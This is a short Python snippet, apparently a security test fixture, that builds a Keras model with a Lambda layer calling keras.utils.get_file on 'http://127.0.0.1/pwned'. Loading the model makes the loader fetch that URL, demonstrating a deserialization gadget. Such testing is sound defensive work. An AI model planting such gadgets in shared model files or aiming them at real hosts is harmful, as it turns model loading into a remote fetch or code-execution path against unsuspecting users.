GADGET = builtin(
    "Lambda",
    name="l",
    function=function("keras.utils", "get_file"),
    arguments={"origin": "http://127.0.0.1/pwned"},
)


def build_model():
    return handing_in(with_layer(GADGET))
